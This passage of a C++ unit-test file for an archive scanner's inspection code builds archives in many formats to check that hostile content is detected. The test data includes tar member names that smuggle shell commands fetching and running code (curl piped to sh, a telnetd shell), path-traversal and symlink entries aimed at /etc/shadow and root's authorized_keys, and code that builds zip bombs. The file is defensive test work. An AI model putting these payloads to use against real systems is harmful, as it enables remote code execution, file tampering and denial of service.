// Archives unpacked in memory: every format libarchive reads, nesting, hostile entry names
// and types, encryption with passwords from the message, bombs, zip reader confusion,
// trailing data and polyglots. Every input is built here (libarchive's writer, zlib, or
// by hand for RAR, CAB and malformed zips); findings are checked at their exact location.
#include <gtest/gtest.h>

#include <archive.h>
#include <archive_entry.h>
#include <locale.h>
#include <zlib.h>

#include <cstdint>
#include <fstream>
#include <memory>
#include <sstream>
#include <string>
#include <vector>

#include "inspect/archive.h"
#include "inspect/engines.h"
#include "inspect/inspect.h"
#include "inspect/passwords.h"

namespace bi = bulwark::inspect;

namespace {

// Bulwark's harmless YARA self-test sample (rules/yara/unc4841_hashes.yar), our EICAR.
const std::string kMarker = "Bulwark YARA hash-list self-test sample. Not malware.\n";
const char* kMarkerRule = "Bulwark_Hash_List_Selftest";

// A minimal PE: "MZ", e_lfanew at 0x3c pointing at "PE\0\0". Found by content.
std::string tiny_pe() {
  std::string pe(0x80, '\0');
  pe[0] = 'M', pe[1] = 'Z';
  pe[0x3c] = 0x40;
  pe.replace(0x40, 4, std::string("PE\0\0", 4));
  return pe;
}

const bi::Engines& engines() {
  static const std::unique_ptr<bi::Engines> e = [] {
    auto r = bi::Engines::load(bulwark::InspectConfig{});
    if (!r) {
      ADD_FAILURE() << r.error().message;
      std::abort();
    }
    return std::move(r).value();
  }();
  return *e;
}

struct Entry {
  Entry(std::string n, std::string c, unsigned t = AE_IFREG, std::string l = "", std::string h = "")
      : name(std::move(n)),
        content(std::move(c)),
        type(t),
        link(std::move(l)),
        hardlink(std::move(h)) {}
  std::string name;
  std::string content;
  unsigned type = AE_IFREG;
  std::string link;      // symlink target
  std::string hardlink;  // hard link target
};

int append_cb(archive*, void* out, const void* buf, size_t n) {
  static_cast<std::string*>(out)->append(static_cast<const char*>(buf), n);
  return static_cast<int>(n);
}

la_ssize_t append_cb_ssize(archive* a, void* out, const void* buf, size_t n) {
  return append_cb(a, out, buf, n);
}

struct WriteOptions {
  WriteOptions(std::vector<std::string> f = {}, std::string o = "", std::string p = "")
      : filters(std::move(f)), options(std::move(o)), passphrase(std::move(p)) {}
  std::vector<std::string> filters;
  std::string options;     // archive_write_set_options
  std::string passphrase;  // zip encryption
};

std::string write_archive(const std::string& format, const std::vector<Entry>& entries,
                          const WriteOptions& o = {}) {
  // Names are given in UTF-8; the writer converts from the thread's locale.
  static const locale_t utf8 = newlocale(LC_CTYPE_MASK, "C.UTF-8", static_cast<locale_t>(nullptr));
  const locale_t old = utf8 ? uselocale(utf8) : static_cast<locale_t>(nullptr);
  std::string out;
  archive* a = archive_write_new();
  EXPECT_EQ(archive_write_set_format_by_name(a, format.c_str()), ARCHIVE_OK)
      << format << ": " << archive_error_string(a);
  // No padding to 10 KiB records, as real-world archives outside tape drives have none
  // (tests that want padding add it).
  archive_write_set_bytes_in_last_block(a, 1);
  for (const std::string& f : o.filters) {
    EXPECT_EQ(archive_write_add_filter_by_name(a, f.c_str()), ARCHIVE_OK)
        << f << ": " << archive_error_string(a);
  }
  if (!o.options.empty()) {
    EXPECT_EQ(archive_write_set_options(a, o.options.c_str()), ARCHIVE_OK)
        << archive_error_string(a);
  }
  if (!o.passphrase.empty()) archive_write_set_passphrase(a, o.passphrase.c_str());
  EXPECT_EQ(archive_write_open(a, &out, nullptr, append_cb_ssize, nullptr), ARCHIVE_OK)
      << archive_error_string(a);
  for (const Entry& en : entries) {
    archive_entry* e = archive_entry_new();
    archive_entry_copy_pathname(e, en.name.c_str());
    archive_entry_set_filetype(e, en.type);
    archive_entry_set_perm(e, en.type == AE_IFDIR ? 0755 : 0644);
    archive_entry_set_mtime(e, 1700000000, 0);
    if (!en.link.empty()) archive_entry_copy_symlink(e, en.link.c_str());
    if (!en.hardlink.empty()) archive_entry_copy_hardlink(e, en.hardlink.c_str());
    if (en.type == AE_IFCHR || en.type == AE_IFBLK) archive_entry_set_rdev(e, 0x0801);
    const bool has_data = en.type == AE_IFREG && en.hardlink.empty();
    archive_entry_set_size(e, has_data ? static_cast<la_int64_t>(en.content.size()) : 0);
    const int rc = archive_write_header(a, e);
    EXPECT_GE(rc, ARCHIVE_WARN) << format << " " << en.name << ": " << archive_error_string(a);
    if (has_data && !en.content.empty()) {
      EXPECT_EQ(archive_write_data(a, en.content.data(), en.content.size()),
                static_cast<la_ssize_t>(en.content.size()));
    }
    archive_entry_free(e);
  }
  EXPECT_EQ(archive_write_close(a), ARCHIVE_OK) << archive_error_string(a);
  archive_write_free(a);
  if (old) uselocale(old);
  return out;
}

// Inspector with findings helpers; the blob is a MIME leaf at location "1".
class Scan {
 public:
  explicit Scan(bulwark::InspectLimits limits = {}) : limits_(limits), insp_(engines(), limits_) {}
  Scan& passwords(std::vector<std::string> p) {
    insp_.set_passwords(std::move(p));
    return *this;
  }
  Scan& archive(std::string_view bytes, std::string name = "a.bin") {
    bi::inspect_archive(bi::Blob{bytes, "1", {std::move(name)}, "", 0}, insp_);
    return *this;
  }
  Scan& blob(std::string_view bytes, std::string name) {
    insp_.inspect_blob(bi::Blob{bytes, "1", {std::move(name)}, "application/octet-stream", 0});
    return *this;
  }
  bool symbol(std::string_view sym, std::string_view location) {
    for (const auto& f : insp_.results().symbols)
      if (f.symbol == sym && f.location == location) return true;
    return false;
  }
  bool symbol_anywhere(std::string_view sym) {
    for (const auto& f : insp_.results().symbols)
      if (f.symbol == sym) return true;
    return false;
  }
  bool threat(std::string_view name, std::string_view location) {
    for (const auto& t : insp_.results().threats)
      if (t.name == name && t.location == location) return true;
    return false;
  }
  bool threat_anywhere(std::string_view name) {
    for (const auto& t : insp_.results().threats)
      if (t.name == name) return true;
    return false;
  }
  bool marker(std::string_view location) { return threat(kMarkerRule, location); }
  std::string dump() {
    std::string s;
    for (const auto& f : insp_.results().symbols)
      s += "  symbol " + f.symbol + " @ " + f.location + " : " + f.detail + "\n";
    for (const auto& t : insp_.results().threats)
      s += "  threat " + t.kind + "/" + t.name + " @ " + t.location + "\n";
    s += "  blobs=" + std::to_string(insp_.results().blobs) +
         " expanded=" + std::to_string(insp_.results().expanded_bytes) + "\n";
    return s;
  }
  bi::Results& results() { return insp_.results(); }

 private:
  bulwark::InspectLimits limits_;
  bi::Inspector insp_;
};

std::string le16(unsigned v) {
  return std::string{static_cast<char>(v & 0xFF), static_cast<char>((v >> 8) & 0xFF)};
}
std::string le32(std::uint32_t v) {
  return le16(v & 0xFFFF) + le16(v >> 16);
}
std::uint32_t crc(std::string_view s) {
  return static_cast<std::uint32_t>(
      crc32(0, reinterpret_cast<const Bytef*>(s.data()), static_cast<uInt>(s.size())));
}

// Raw deflate (no zlib header), for hand-built zips.
std::string raw_deflate(std::string_view in) {
  z_stream z{};
  EXPECT_EQ(deflateInit2(&z, 9, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY), Z_OK);
  std::string out(deflateBound(&z, static_cast<uLong>(in.size())) + 64, '\0');
  z.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(in.data()));
  z.avail_in = static_cast<uInt>(in.size());
  z.next_out = reinterpret_cast<Bytef*>(out.data());
  z.avail_out = static_cast<uInt>(out.size());
  EXPECT_EQ(deflate(&z, Z_FINISH), Z_STREAM_END);
  out.resize(z.total_out);
  deflateEnd(&z);
  return out;
}

// A gzip stream whose header carries an original file name (FNAME).
std::string gzip_with_name(std::string_view in, const std::string& name) {
  std::string out("\x1f\x8b\x08\x08\0\0\0\0\0\x03", 10);
  out += name;
  out += '\0';
  out += raw_deflate(in);
  out += le32(crc(in)) + le32(static_cast<std::uint32_t>(in.size()));
  return out;
}

// Hand-built zip pieces: local header + data, central entry, end record.
struct ZipPart {
  std::string name;
  std::string data;  // as stored (compressed or not)
  std::uint32_t usize;
  std::uint32_t crc;
  unsigned method;  // 0 stored, 8 deflate
};

std::string zip_local(const ZipPart& p) {
  return std::string("PK\x03\x04", 4) + le16(20) + le16(0) + le16(p.method) + le16(0) +
         le16(0x5621) + le32(p.crc) + le32(static_cast<std::uint32_t>(p.data.size())) +
         le32(p.usize) + le16(static_cast<unsigned>(p.name.size())) + le16(0) + p.name + p.data;
}

std::string zip_central(const ZipPart& p, std::uint32_t offset) {
  return std::string("PK\x01\x02", 4) + le16(20) + le16(20) + le16(0) + le16(p.method) + le16(0) +
         le16(0x5621) + le32(p.crc) + le32(static_cast<std::uint32_t>(p.data.size())) +
         le32(p.usize) + le16(static_cast<unsigned>(p.name.size())) + le16(0) + le16(0) + le16(0) +
         le16(0) + le32(0) + le32(offset) + p.name;
}

std::string zip_end(unsigned count, std::uint32_t cd_size, std::uint32_t cd_offset) {
  return std::string("PK\x05\x06", 4) + le16(0) + le16(0) + le16(count) + le16(count) +
         le32(cd_size) + le32(cd_offset) + le16(0);
}

ZipPart stored(std::string name, std::string data) {
  const std::uint32_t c = crc(data);
  const auto n = static_cast<std::uint32_t>(data.size());
  return ZipPart{std::move(name), std::move(data), n, c, 0};
}

// A minimal RAR 4 archive with one stored file. Every header: CRC16 (the low 16 bits of
// CRC32 over the header from its type byte), type, flags, size.
std::string rar4_stored(const std::string& name, const std::string& content) {
  auto block = [](const std::string& from_type) {
    return le16(crc(from_type) & 0xFFFF) + from_type;
  };
  std::string out("Rar!\x1a\x07\x00", 7);
  out += block(std::string("\x73", 1) + le16(0) + le16(13) + le16(0) + le32(0));
  const auto size = static_cast<std::uint32_t>(content.size());
  std::string file =
      std::string("\x74", 1) + le16(0x8000) + le16(static_cast<unsigned>(32 + name.size())) +
      le32(size) + le32(size) + std::string("\x03", 1) /* Unix */ + le32(crc(content)) +
      le32(0x56210000u) /* 2023-01-01 */ + std::string("\x14\x30", 2) /* v2.0, store */ +
      le16(static_cast<unsigned>(name.size())) + le32(0100644) + name;
  out += block(file) + content;
  out += block(std::string("\x7b", 1) + le16(0x4000) + le16(7));
  return out;
}

// A minimal RAR 5 archive with one stored file: headers are CRC32, a vint size, then the
// header fields as vints (the CRC covers the size and the fields).
std::string vint(std::uint64_t v) {
  std::string out;
  do {
    char b = static_cast<char>(v & 0x7F);
    v >>= 7;
    if (v) b = static_cast<char>(b | 0x80);
    out += b;
  } while (v);
  return out;
}
std::string rar5_stored(const std::string& name, const std::string& content) {
  auto header = [](const std::string& fields) {
    const std::string sized = vint(fields.size()) + fields;
    return le32(crc(sized)) + sized;
  };
  std::string out("Rar!\x1a\x07\x01\x00", 8);
  out += header(vint(1) + vint(0) + vint(0));  // main header: no flags
  const std::string file = vint(2) /* file */ + vint(0x02) /* data area */ + vint(content.size()) +
                           vint(0x04) /* CRC32 present */ + vint(content.size()) +
                           vint(0644) /* attributes */ + le32(crc(content)) + vint(0) /* store */ +
                           vint(1) /* Unix */ + vint(name.size()) + name;
  out += header(file) + content;
  out += header(vint(5) + vint(0) + vint(0));  // end of archive
  return out;
}

// A minimal Microsoft cabinet: one folder, no compression, one file, one data block.
std::string cab_stored(const std::string& name, const std::string& content) {
  const std::uint32_t files_off = 36 + 8;
  const std::uint32_t data_off = files_off + 16 + static_cast<std::uint32_t>(name.size()) + 1;
  const std::uint32_t total = data_off + 8 + static_cast<std::uint32_t>(content.size());
  std::string out = "MSCF" + le32(0) + le32(total) + le32(0) + le32(files_off) + le32(0) +
                    std::string("\x03\x01", 2) + le16(1) + le16(1) + le16(0) + le16(0x1234) +
                    le16(0);
  out += le32(data_off) + le16(1) + le16(0);
  out += le32(static_cast<std::uint32_t>(content.size())) + le32(0) + le16(0) + le16(0x5621) +
         le16(0) + le16(0x20) + name + std::string(1, '\0');
  out += le32(0) + le16(static_cast<unsigned>(content.size())) +
         le16(static_cast<unsigned>(content.size())) + content;
  return out;
}

const std::string kPng = std::string(
    "\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\0IEND"
    "\xae\x42\x60\x82",
    45);

// ---------------------------------------------------------------------------------------

TEST(LooksLikeArchive, Magics) {
  EXPECT_TRUE(bi::looks_like_archive(write_archive("zip", {{"a", "b"}})));
  EXPECT_TRUE(bi::looks_like_archive(write_archive("7zip", {{"a", "b"}})));
  EXPECT_TRUE(bi::looks_like_archive(write_archive("ustar", {{"a", "b"}})));
  EXPECT_TRUE(bi::looks_like_archive(write_archive("v7tar", {{"a", "b"}})));
  EXPECT_TRUE(bi::looks_like_archive(write_archive("cpio", {{"a", "b"}})));
  EXPECT_TRUE(bi::looks_like_archive(write_archive("newc", {{"a", "b"}})));
  EXPECT_TRUE(bi::looks_like_archive(write_archive("arbsd", {{"a", "b"}})));
  EXPECT_TRUE(bi::looks_like_archive(write_archive("iso9660", {{"a", "b"}})));
  EXPECT_TRUE(bi::looks_like_archive(write_archive("xar", {{"a", "b"}})));
  for (const char* f : {"gzip", "bzip2", "xz", "zstd", "lz4", "compress", "lzip"})
    EXPECT_TRUE(bi::looks_like_archive(write_archive("raw", {{"a", "b"}}, {{f}}))) << f;
  EXPECT_TRUE(bi::looks_like_archive(rar4_stored("a", "b")));
  EXPECT_TRUE(bi::looks_like_archive(cab_stored("a", "b")));
  EXPECT_FALSE(bi::looks_like_archive(""));
  EXPECT_FALSE(bi::looks_like_archive("hello world, this is text"));
  EXPECT_FALSE(bi::looks_like_archive(kPng));
  EXPECT_FALSE(bi::looks_like_archive(std::string(1024, '\0')));
  EXPECT_FALSE(bi::looks_like_archive(tiny_pe()));
}

// The marker inside every writable format and filter is found at its exact location.
TEST(InspectArchive, EveryFormatAndFilter) {
  struct Case {
    std::string format;
    std::vector<std::string> filters;
    bool dirs = true;  // ar has no directories
  };
  const std::vector<Case> cases = {
      {"zip", {}},
      {"7zip", {}},
      {"ustar", {}},
      {"pax", {}},
      {"gnutar", {}},
      {"v7tar", {}},
      {"cpio", {}},
      {"newc", {}},
      {"arbsd", {}, false},
      {"argnu", {}, false},
      {"iso9660", {}},
      {"xar", {}},
      {"pax", {"gzip"}},
      {"pax", {"bzip2"}},
      {"pax", {"xz"}},
      {"pax", {"zstd"}},
      {"pax", {"lz4"}},
      {"pax", {"lzip"}},
      {"pax", {"lzma"}},
      {"pax", {"compress"}},
      {"newc", {"gzip"}},
      {"pax", {"uuencode"}},
      {"pax", {"gzip", "uuencode"}},
  };
  for (const Case& c : cases) {
    const std::string member = c.dirs ? "docs/readme.txt" : "readme.txt";
    std::vector<Entry> entries;
    if (c.dirs) entries.push_back({"docs", "", AE_IFDIR});
    entries.push_back({member, kMarker});
    entries.push_back({c.dirs ? "docs/tool.txt" : "tool.txt", tiny_pe()});
    const std::string bytes = write_archive(c.format, entries, {c.filters});
    Scan run;
    run.archive(bytes, "a.bin");
    std::string label = c.format;
    for (const auto& f : c.filters) label += "+" + f;
    SCOPED_TRACE(label + "\n" + run.dump());
    EXPECT_TRUE(run.marker("1/" + member));
    EXPECT_TRUE(run.symbol("FILE_DANGEROUS_TYPE", c.dirs ? "1/docs/tool.txt" : "1/tool.txt"));
    EXPECT_FALSE(run.symbol_anywhere("ARCHIVE_CORRUPT"));
    EXPECT_FALSE(run.symbol_anywhere("ARCHIVE_TRAILING_DATA"));
    EXPECT_FALSE(run.symbol_anywhere("ARCHIVE_NAME_MISMATCH"));
    EXPECT_FALSE(run.symbol_anywhere("ARCHIVE_BOMB_RATIO"));
  }
}

// Single compressed files: the member is the decompressed stream, named after the blob
// (or the gzip header's original name).
TEST(InspectArchive, SingleFileStreams) {
  for (const char* f : {"gzip", "bzip2", "xz", "zstd", "lz4", "compress", "lzip", "lzma"}) {
    const std::string bytes = write_archive("raw", {{"x", kMarker}}, {{f}});
    Scan run;
    run.archive(bytes, "sample.txt.gz");
    SCOPED_TRACE(std::string(f) + "\n" + run.dump());
    EXPECT_TRUE(run.marker("1/sample.txt"));
    EXPECT_FALSE(run.symbol_anywhere("ARCHIVE_CORRUPT"));
    EXPECT_FALSE(run.symbol_anywhere("ARCHIVE_TRAILING_DATA"));
  }
  Scan run;
  run.archive(gzip_with_name(kMarker, "orig-name.txt"), "renamed.gz");
  EXPECT_TRUE(run.marker("1/orig-name.txt")) << run.dump();

  // The gzip header's name is attacker-chosen too.
  Scan evil;
  evil.archive(gzip_with_name(kMarker, "$(curl evil|sh).txt"), "x.gz");
  EXPECT_TRUE(evil.threat("EXPLOIT_SHELL_IN_FILENAME", "1/$(curl evil|sh).txt")) << evil.dump();

  // A .tgz is a tar, not a single stream.
  Scan tgz;
  tgz.archive(write_archive("ustar", {{"in/tar.txt", kMarker}}, {{"gzip"}}), "x.tgz");
  EXPECT_TRUE(tgz.marker("1/in/tar.txt")) << tgz.dump();
}

// zip in tar.gz in 7z: every level unpacked, locations spell the path.
TEST(InspectArchive, NestedLocations) {
  const std::string zip = write_archive("zip", {{"payload.txt", kMarker}, {"run.txt", tiny_pe()}});
  const std::string tgz = write_archive("pax", {{"inner/inner.zip", zip}}, {{"gzip"}});
  const std::string sz = write_archive("7zip", {{"mid.tar.gz", tgz}});
  Scan run;
  run.archive(sz, "outer.7z");
  EXPECT_TRUE(run.marker("1/mid.tar.gz/inner/inner.zip/payload.txt")) << run.dump();
  EXPECT_TRUE(run.symbol("FILE_DANGEROUS_TYPE", "1/mid.tar.gz/inner/inner.zip/run.txt"))
      << run.dump();
  EXPECT_EQ(run.results().blobs, 4u);  // mid.tar.gz, inner.zip, payload.txt, run.txt
}

// CVE-2023-2868: shell commands in TAR member names, as published, in every tar flavour
// (long names go to GNU ././@LongLink or pax path records).
TEST(InspectArchive, Cve2023_2868MemberNames) {
  const std::vector<std::string> names = {
      "'`echo aGVsbG8= | base64 -d | sh`'.tar",
      "'`openssl aes-256-cbc -d -in /tmp/x -k key -md md5 | sh`'.tar",
      "'`abcdef`'",
      "'$(curl -s http://203.0.113.7/x|sh)'.txt",
      "$(curl x|sh).txt",
      "a;wget x;.txt",
      "x|sh",
      "a&&busybox telnetd -l /bin/sh",
      "--checkpoint-action=exec=sh shell.sh",
      "name;${IFS}sh${IFS}-c${IFS}id",
      std::string("'`echo ") + std::string(150, 'A') + " | base64 -d | sh`'.tar",
  };
  for (const char* fmt : {"ustar", "pax", "gnutar"}) {
    std::vector<Entry> entries;
    for (const std::string& n : names) {
      if (std::string(fmt) == "ustar" && n.size() > 99) continue;  // ustar cannot hold it
      entries.push_back({n, "x"});
    }
    entries.push_back({"benign.txt", "x"});
    Scan run;
    run.archive(write_archive(fmt, entries), "att.tar");
    SCOPED_TRACE(std::string(fmt) + "\n" + run.dump());
    for (const Entry& e : entries) {
      if (e.name == "benign.txt") continue;
      EXPECT_TRUE(run.threat("EXPLOIT_SHELL_IN_FILENAME", "1/" + e.name)) << e.name;
    }
    EXPECT_FALSE(run.threat("EXPLOIT_SHELL_IN_FILENAME", "1/benign.txt"));
  }
  // Directories and symlinks are checked too, not only regular files.
  Scan run;
  run.archive(write_archive("pax", {{"`reboot`/", "", AE_IFDIR}, {"`id`", "", AE_IFLNK, "target"}}),
              "att.tar");
  EXPECT_TRUE(run.threat("EXPLOIT_SHELL_IN_FILENAME", "1/`reboot`/")) << run.dump();
  EXPECT_TRUE(run.threat("EXPLOIT_SHELL_IN_FILENAME", "1/`id`")) << run.dump();
}

TEST(InspectArchive, OrdinaryMemberNamesAreNotExploits) {
  const std::vector<std::string> names = {"Tom's report.pdf",
                                          "Q&A.docx",
                                          "Smith; Jones - contract.pdf",
                                          "Price $5 (draft).xlsx",
                                          "R&D | plan 2024.txt",
                                          "\"quoted\" title.doc",
                                          "notes (1).txt",
                                          "a-b_c.d.txt",
                                          "[Content_Types].xml",
                                          "word/_rels/document.xml.rels",
                                          "2024-01-01 backup.tar"};
  std::vector<Entry> entries;
  for (const auto& n : names) entries.push_back({n, "x"});
  Scan run;
  run.archive(write_archive("zip", entries), "docs.zip");
  EXPECT_TRUE(run.results().threats.empty()) << run.dump();
}

TEST(InspectArchive, TraversalAbsoluteLinksDevices) {
  const std::string tar =
      write_archive("pax", {{"../../etc/cron.d/evil", "x"},
                            {"/etc/passwd", "x"},
                            {"ok/../../up.txt", "x"},
                            {"slink", "", AE_IFLNK, "/etc/shadow"},
                            {"slink2", "", AE_IFLNK, "../../../root/.ssh/authorized_keys"},
                            {"safe-link", "", AE_IFLNK, "docs/readme.txt"},
                            {"hlink", "", AE_IFREG, "", "../outside"},
                            {"dev/sda", "", AE_IFCHR},
                            {"dev/loop", "", AE_IFBLK},
                            {"fifo", "", AE_IFIFO}});
  Scan run;
  run.archive(tar, "x.tar");
  SCOPED_TRACE(run.dump());
  EXPECT_TRUE(run.threat("EXPLOIT_PATH_TRAVERSAL", "1/../../etc/cron.d/evil"));
  EXPECT_TRUE(run.threat("EXPLOIT_ABSOLUTE_PATH", "1//etc/passwd"));
  EXPECT_TRUE(run.threat("EXPLOIT_PATH_TRAVERSAL", "1/ok/../../up.txt"));
  EXPECT_TRUE(run.symbol("FILE_SYMLINK", "1/slink"));
  EXPECT_TRUE(run.threat("EXPLOIT_ABSOLUTE_PATH", "1/slink"));
  EXPECT_TRUE(run.threat("EXPLOIT_PATH_TRAVERSAL", "1/slink2"));
  EXPECT_TRUE(run.symbol("FILE_SYMLINK", "1/safe-link"));
  EXPECT_FALSE(run.threat("EXPLOIT_PATH_TRAVERSAL", "1/safe-link"));
  EXPECT_FALSE(run.threat("EXPLOIT_ABSOLUTE_PATH", "1/safe-link"));
  EXPECT_TRUE(run.symbol("FILE_SYMLINK", "1/hlink"));
  EXPECT_TRUE(run.threat("EXPLOIT_PATH_TRAVERSAL", "1/hlink"));
  EXPECT_TRUE(run.threat("EXPLOIT_DEVICE_NODE", "1/dev/sda"));
  EXPECT_TRUE(run.threat("EXPLOIT_DEVICE_NODE", "1/dev/loop"));
  EXPECT_TRUE(run.threat("EXPLOIT_DEVICE_NODE", "1/fifo"));

  // Windows paths inside a zip.
  Scan zip;
  zip.archive(write_archive("zip", {{"C:\\Windows\\System32\\evil.dll", "x"},
                                    {"..\\..\\Startup\\run.bat", "x"}}),
              "x.zip");
  // libarchive reads '\' in zip names as '/'; both are checked.
  EXPECT_TRUE(zip.threat("EXPLOIT_ABSOLUTE_PATH", "1/C:/Windows/System32/evil.dll")) << zip.dump();
  EXPECT_TRUE(zip.threat("EXPLOIT_PATH_TRAVERSAL", "1/../../Startup/run.bat")) << zip.dump();
}

// Names in UTF-8 (zip, tar) and UTF-16 (7z) reach the checks intact: RTLO is seen.
TEST(InspectArchive, UnicodeMemberNames) {
  const std::string rtlo =
      "invoice\xE2\x80\xAE"
      "fdp.exe";
  for (const char* fmt : {"zip", "7zip", "pax", "gnutar"}) {
    Scan run;
    run.archive(write_archive(fmt, {{rtlo, "x"}}), "x");
    EXPECT_TRUE(run.symbol("FILE_NAME_BIDI", "1/" + rtlo)) << fmt << "\n" << run.dump();
  }
}

TEST(InspectArchive, EncryptedZipWithAndWithoutPassword) {
  for (const char* enc : {"zip:encryption=zipcrypt", "zip:encryption=aes256"}) {
    const std::string zip = write_archive(
        "zip", {{"plain.txt", "hello"}, {"secret/payload.txt", kMarker}}, {{}, enc, "S3cret!"});
    SCOPED_TRACE(enc);
    {
      Scan run;
      run.archive(zip, "enc.zip");
      EXPECT_TRUE(run.symbol("ARCHIVE_ENCRYPTED", "1")) << run.dump();
      EXPECT_FALSE(run.marker("1/secret/payload.txt")) << run.dump();
      EXPECT_FALSE(run.symbol_anywhere("ARCHIVE_CORRUPT")) << run.dump();
    }
    {
      Scan run;
      run.passwords({"wrong", "also-wrong"}).archive(zip, "enc.zip");
      EXPECT_TRUE(run.symbol("ARCHIVE_ENCRYPTED", "1")) << run.dump();
      EXPECT_FALSE(run.symbol_anywhere("ARCHIVE_PASSWORD_FOUND")) << run.dump();
    }
    {
      const std::string text = "Hello,\nplease find the invoice attached.\nPassword: S3cret!\n";
      Scan run;
      run.passwords(bi::find_passwords(text, 16)).archive(zip, "enc.zip");
      EXPECT_TRUE(run.symbol("ARCHIVE_PASSWORD_FOUND", "1")) << run.dump();
      EXPECT_FALSE(run.symbol_anywhere("ARCHIVE_ENCRYPTED")) << run.dump();
      EXPECT_TRUE(run.marker("1/secret/payload.txt")) << run.dump();
      EXPECT_EQ(run.results().blobs, 2u) << run.dump();  // each member once
    }
  }
}

TEST(InspectArchive, RatioBombStopsEarly) {
  // 200 MB of zeros deflate to ~200 KB.
  std::string out;
  archive* a = archive_write_new();
  archive_write_set_format_zip(a);
  archive_write_open(a, &out, nullptr, append_cb_ssize, nullptr);
  archive_entry* e = archive_entry_new();
  archive_entry_set_pathname(e, "zeros.bin");
  archive_entry_set_filetype(e, AE_IFREG);
  archive_entry_set_size(e, 200 << 20);
  archive_write_header(a, e);
  const std::string block(1 << 20, '\0');
  for (int i = 0; i < 200; ++i) archive_write_data(a, block.data(), block.size());
  archive_entry_free(e);
  archive_write_close(a);
  archive_write_free(a);
  ASSERT_LT(out.size(), 1u << 20);
  Scan run;
  run.archive(out, "bomb.zip");
  EXPECT_TRUE(run.symbol("ARCHIVE_BOMB_RATIO", "1")) << run.dump();
  EXPECT_LT(run.results().expanded_bytes, 8u << 20) << run.dump();
}

TEST(InspectArchive, SizeCountAndBudgetLimits) {
  std::string noise(3 << 20, '\0');
  std::uint32_t x = 12345;
  for (char& c : noise) c = static_cast<char>((x = x * 1103515245 + 12345) >> 24);
  bulwark::InspectLimits small;
  small.max_member_bytes = 1 << 20;
  {
    Scan run(small);
    run.archive(write_archive("zip", {{"big.bin", noise}, {"after.txt", kMarker}}), "x.zip");
    EXPECT_TRUE(run.symbol("ARCHIVE_BOMB_SIZE", "1")) << run.dump();
    EXPECT_TRUE(run.marker("1/after.txt")) << run.dump();  // the next member is still read
  }
  {
    bulwark::InspectLimits few;
    few.max_members = 3;
    std::vector<Entry> many;
    for (int i = 0; i < 10; ++i) many.push_back({"f" + std::to_string(i), "x"});
    Scan run(few);
    run.archive(write_archive("pax", many), "x.tar");
    EXPECT_TRUE(run.symbol_anywhere("INSPECT_LIMIT_MEMBERS")) << run.dump();
    EXPECT_LE(run.results().blobs, 3u);
  }
  {
    bulwark::InspectLimits budget;
    budget.max_expanded_bytes = 1 << 20;
    Scan run(budget);
    run.archive(write_archive("pax", {{"a", noise}, {"b", noise}}), "x.tar");
    EXPECT_TRUE(run.symbol_anywhere("INSPECT_LIMIT_EXPANDED_BYTES")) << run.dump();
    EXPECT_LE(run.results().expanded_bytes, (1u << 20) + (64u << 10));
  }
}

// 42.zip style: ten zips, each inside the next.
TEST(InspectArchive, NestingBomb) {
  std::string inner = write_archive("zip", {{"payload.txt", kMarker}});
  for (int i = 9; i >= 1; --i)
    inner = write_archive("zip", {{"l" + std::to_string(i) + ".zip", inner}});
  Scan run;
  run.archive(inner, "l0.zip");
  SCOPED_TRACE(run.dump());
  EXPECT_TRUE(run.symbol_anywhere("INSPECT_LIMIT_DEPTH"));
  EXPECT_TRUE(run.symbol_anywhere("ARCHIVE_BOMB_NESTED"));
  // Depth 8 is the default limit: l1..l7 opened, l8 is a blob at depth 8, not opened.
  EXPECT_TRUE(run.symbol("ARCHIVE_BOMB_NESTED",
                         "1/l1.zip/l2.zip/l3.zip/l4.zip/l5.zip/l6.zip/l7.zip/l8.zip"));

  // Nesting within the limit is not a bomb.
  std::string three = write_archive("zip", {{"payload.txt", kMarker}});
  three = write_archive("zip", {{"b.zip", three}});
  Scan ok;
  ok.archive(three, "a.zip");
  EXPECT_TRUE(ok.marker("1/b.zip/payload.txt")) << ok.dump();
  EXPECT_FALSE(ok.symbol_anywhere("ARCHIVE_BOMB_NESTED"));
}

// Central entries sharing one local header's compressed data (Fifield's zip bomb).
TEST(InspectArchive, OverlappingZipEntries) {
  const std::string zeros(4 << 20, '\0');
  ZipPart kernel{"k0", raw_deflate(zeros), static_cast<std::uint32_t>(zeros.size()), crc(zeros), 8};
  std::string zip = zip_local(kernel);
  std::string cd;
  for (int i = 0; i < 50; ++i) {
    ZipPart p = kernel;
    p.name = "k" + std::to_string(i);
    cd += zip_central(p, 0);
  }
  const auto cd_off = static_cast<std::uint32_t>(zip.size());
  zip += cd + zip_end(50, static_cast<std::uint32_t>(cd.size()), cd_off);
  Scan run;
  run.archive(zip, "overlap.zip");
  EXPECT_TRUE(run.symbol("ARCHIVE_BOMB_OVERLAP", "1")) << run.dump();
  EXPECT_LT(run.results().expanded_bytes, 16u << 20) << run.dump();

  // The quoted variant: the second local header lies inside the first entry's data.
  ZipPart inner = stored("inner.txt", kMarker);
  const std::string inner_local = zip_local(inner);
  ZipPart outer = stored("outer.bin", inner_local + "tail");
  std::string z2 = zip_local(outer);
  const std::uint32_t inner_off = 30 + static_cast<std::uint32_t>(outer.name.size());
  std::string cd2 = zip_central(outer, 0) + zip_central(inner, inner_off);
  const auto cd2_off = static_cast<std::uint32_t>(z2.size());
  z2 += cd2 + zip_end(2, static_cast<std::uint32_t>(cd2.size()), cd2_off);
  Scan run2;
  run2.archive(z2, "quoted.zip");
  EXPECT_TRUE(run2.symbol("ARCHIVE_BOMB_OVERLAP", "1")) << run2.dump();
}

// Local headers and central directory tell different stories: both are inspected.
TEST(InspectArchive, ZipLocalCentralMismatch) {
  // "hidden.txt" has a local header but no central entry.
  ZipPart shown_part = stored("shown.txt", "harmless");
  ZipPart hidden = stored("hidden.txt", kMarker);
  std::string zip = zip_local(shown_part);
  zip += zip_local(hidden);
  std::string cd = zip_central(shown_part, 0);
  const auto cd_off = static_cast<std::uint32_t>(zip.size());
  zip += cd + zip_end(1, static_cast<std::uint32_t>(cd.size()), cd_off);
  Scan run;
  run.archive(zip, "m.zip");
  EXPECT_TRUE(run.symbol("ARCHIVE_NAME_MISMATCH", "1")) << run.dump();
  EXPECT_TRUE(run.marker("1/hidden.txt")) << run.dump();

  // Central name differs from the local one.
  ZipPart local_name = stored("invoice.pdf", kMarker);
  ZipPart central_name = local_name;
